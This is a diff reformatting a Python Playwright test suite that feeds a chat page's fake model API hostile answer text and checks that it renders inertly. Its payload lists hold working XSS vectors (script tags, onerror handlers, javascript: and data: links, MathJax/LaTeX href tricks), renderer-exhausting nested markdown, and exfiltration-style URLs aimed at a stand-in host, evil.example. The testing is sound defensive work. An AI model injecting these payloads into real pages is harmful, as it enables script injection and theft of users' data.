@@ -1,29 +1,71 @@
 """Hostile texts in answers, reasoning, tool calls and names: they are shown, and do nothing."""
-import pytest
 
+import pytest
 from browser_page import browser, keep, send, wait_done, watched  # noqa: F401
-from fake_api import chunk, faking, says, USAGE
+from fake_api import USAGE, chunk, faking, says
 
 HTML = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
-    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<body onload=alert(1)>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<a href='javascript:alert(1)'>x</a>", "<details open ontoggle=alert(1)>",
-    "<style>@import 'http://evil.example/x.css';</style>", "<link rel=stylesheet href=http://evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<base href=http://evil.example/>", "<object data=http://evil.example/x>",
-    "<form action=http://evil.example><button>go</button></form>", "<video src=http://evil.example/x onerror=alert(1)>",
-    "<input autofocus onfocus=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
-    "<!--<img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<<script>alert(1)//<</script>", "<img src=x\nonerror=alert(1)\n>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "</textarea><script>alert(1)</script>", "<x onclick=alert(1) style=position:fixed;inset:0>click</x>", "<marquee onstart=alert(1)>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<body onload=alert(1)>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<base href=http://evil.example/>",
+    "<object data=http://evil.example/x>",
+    "<form action=http://evil.example><button>go</button></form>",
+    "<video src=http://evil.example/x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<<script>alert(1)//<</script>",
+    "<img src=x\nonerror=alert(1)\n>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</textarea><script>alert(1)</script>",
+    "<x onclick=alert(1) style=position:fixed;inset:0>click</x>",
+    "<marquee onstart=alert(1)>",
 ]
 MARKDOWN = [
-    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](vbscript:msgbox(1))", "<javascript:alert(1)>", "![x](http://evil.example/steal?q=secret)", "![x][1]\n\n[1]: http://evil.example/pixel.png",
-    "[![x](http://evil.example/a.png)](javascript:alert(1))", "[x](//evil.example)", "[x](/admin/prefixes)", "[x](file:///etc/passwd)",
-    '[x](https://good.example "onmouseover=alert(1)")', "[x](https://good.example\" onclick=\"alert(1))", "[x]: javascript:alert(1)\n\n[x]",
-    "```<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```", "`<img src=x onerror=alert(1)>`", "```__proto__\nx\n```", "```constructor\nx\n```",
-    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>alert(1)</script>|c|", "# <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
-    "> <svg onload=alert(1)>", ">" * 3000 + " deep", "- " * 500 + "deep", "[" * 2000, "*" * 3000 + "a", "\u202etxt.exe\u0000\ufffe",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox(1))",
+    "<javascript:alert(1)>",
+    "![x](http://evil.example/steal?q=secret)",
+    "![x][1]\n\n[1]: http://evil.example/pixel.png",
+    "[![x](http://evil.example/a.png)](javascript:alert(1))",
+    "[x](//evil.example)",
+    "[x](/admin/prefixes)",
+    "[x](file:///etc/passwd)",
+    '[x](https://good.example "onmouseover=alert(1)")',
+    '[x](https://good.example" onclick="alert(1))',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "```<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "```__proto__\nx\n```",
+    "```constructor\nx\n```",
+    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>alert(1)</script>|c|",
+    "# <img src=x onerror=alert(1)>",
+    "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
+    "> <svg onload=alert(1)>",
+    ">" * 3000 + " deep",
+    "- " * 500 + "deep",
+    "[" * 2000,
+    "*" * 3000 + "a",
+    "\u202etxt.exe\u0000\ufffe",
 ]
 
 
@@ -57,8 +99,10 @@ def test_answers_do_nothing_but_stand_there(fake, watched):
     count = 0
     texts = HTML + MARKDOWN
     for begin in range(0, len(texts), 10):
-        for text in texts[begin:begin + 10]:
-            fake.reply(chunks=says(*[text[i:i + 7] for i in range(0, len(text), 7)]) if len(text) < 200 else says(text))
+        for text in texts[begin : begin + 10]:
+            fake.reply(
+                chunks=says(*[text[i : i + 7] for i in range(0, len(text), 7)]) if len(text) < 200 else says(text)
+            )
             send(page, text[:200])
             count += 1
             wait_done(page, count)
@@ -89,7 +133,9 @@ def test_hostile_names_reasoning_tools_and_tokens(fake, watched):
     page.click(".reasoning summary")
     assert_harmless(page)
     one = chunk({"content": bad})
-    one["choices"][0]["logprobs"] = {"content": [{"token": bad, "logprob": -1.0, "top_logprobs": [{"token": bad, "logprob": -1.0}]}]}
+    one["choices"][0]["logprobs"] = {
+        "content": [{"token": bad, "logprob": -1.0, "top_logprobs": [{"token": bad, "logprob": -1.0}]}]
+    }
     fake.reply(chunks=[one, chunk({}, "stop"), USAGE])
     page.keyboard.press("Control+Shift+O")
     send(page, "x")
@@ -101,14 +147,21 @@ def test_hostile_names_reasoning_tools_and_tokens(fake, watched):
 
 def test_markdown_looks_as_it_should(fake, watched):
     page = watched.open(fake.url)
-    text = ("# Title\n\nSome **bold**, *em*, ~~gone~~, `code & <x>` and [a link](https://a.example/?a=1&b=2).\n\n1. one\n2. two\n   - in\n\n"
-            "```python\ndef f(x):\n    return \"<b>\" # c\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> quote &amp; more\n\n- [x] done\n\n---\n\nAT&T &copy; 2 < 3")
-    fake.reply(chunks=says(*[text[i:i + 5] for i in range(0, len(text), 5)]))
+    text = (
+        "# Title\n\nSome **bold**, *em*, ~~gone~~, `code & <x>` and [a link](https://a.example/?a=1&b=2).\n\n1. one\n2."
+        ' two\n   - in\n\n```python\ndef f(x):\n    return "<b>" # c\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> quote'
+        " &amp; more\n\n- [x] done\n\n---\n\nAT&T &copy; 2 < 3"
+    )
+    fake.reply(chunks=says(*[text[i : i + 5] for i in range(0, len(text), 5)]))
     send(page, "x")
     wait_done(page)
     box = page.locator(".message.assistant > .markdown")
     assert box.locator("h2").inner_text() == "Title"
-    assert box.locator("p strong").inner_text() == "bold" and box.locator("p em").inner_text() == "em" and box.locator("del").count() == 1
+    assert (
+        box.locator("p strong").inner_text() == "bold"
+        and box.locator("p em").inner_text() == "em"
+        and box.locator("del").count() == 1
+    )
     assert box.locator("p code").inner_text() == "code & <x>"
     assert box.locator("a").get_attribute("href") == "https://a.example/?a=1&b=2"
     assert box.locator("ol > li").count() == 2 and box.locator("ol ul li").inner_text() == "in"
@@ -127,14 +180,24 @@ def test_formulas_are_mathml_and_nothing_else(fake, watched):
     send(page, "x")
     wait_done(page)
     assert page.locator("math").count() == 0 and "katex.js" not in asked  # it comes with the first formula
-    text = ("Euler: $e^{i\\pi} + 1 = 0$, \\(a_1 < b\\) and\n\n$$\\int_0^1 \\frac{x}{\\sqrt{2}}\\,dx$$\n\n\\[\n\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}\n\\]\n\n"
-            "$\\nosuch{x}$ $\\href{javascript:alert(1)}{y}$ $\\def\\x{\\x\\x}\\x$ $\\includegraphics{http://x.example/a.png}$ $<img src=x onerror=alert(1)>$ then $(")
-    fake.reply(chunks=says(*[text[i:i + 5] for i in range(0, len(text), 5)]))
+    text = (
+        "Euler: $e^{i\\pi} + 1 = 0$, \\(a_1 < b\\) and\n\n$$\\int_0^1"
+        " \\frac{x}{\\sqrt{2}}\\,dx$$\n\n\\[\n\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}\n\\]\n\n$\\nosuch{x}$"
+        " $\\href{javascript:alert(1)}{y}$ $\\def\\x{\\x\\x}\\x$ $\\includegraphics{http://x.example/a.png}$ $<img"
+        " src=x onerror=alert(1)>$ then $("
+    )
+    fake.reply(chunks=says(*[text[i : i + 5] for i in range(0, len(text), 5)]))
     send(page, "x")
     wait_done(page, 2)
     box = page.locator(".message.assistant > .markdown").last
-    page.wait_for_function("() => document.querySelectorAll('math').length >= 4 && document.querySelectorAll('.maths.unknown').length >= 2")
-    assert box.locator("math[display=block]").count() == 2 and box.locator("mtable mtr").count() == 2 and box.locator("mfrac").count() == 1
+    page.wait_for_function(
+        "() => document.querySelectorAll('math').length >= 4 && document.querySelectorAll('.maths.unknown').length >= 2"
+    )
+    assert (
+        box.locator("math[display=block]").count() == 2
+        and box.locator("mtable mtr").count() == 2
+        and box.locator("mfrac").count() == 1
+    )
     assert "\\nosuch{x}" in box.inner_text() and box.inner_text().endswith("then $(")
     assert box.locator("a, img").count() == 0
     assert_harmless(page)
